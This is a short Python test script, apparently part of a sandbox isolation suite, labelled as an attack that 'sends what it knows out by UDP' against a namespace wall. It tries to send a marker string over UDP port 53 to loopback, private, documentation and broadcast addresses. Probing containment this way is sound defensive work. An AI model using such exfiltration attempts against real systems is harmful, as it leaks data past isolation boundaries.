# /// attack
# does = "sends what it knows out by UDP"
# wall = "namespaces"
# ///
# %%
import socket
for address in ("127.0.0.1", "192.0.2.1", "10.0.0.1", "255.255.255.255"):
    attempt(address, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"vault-mark", (address, 53)))
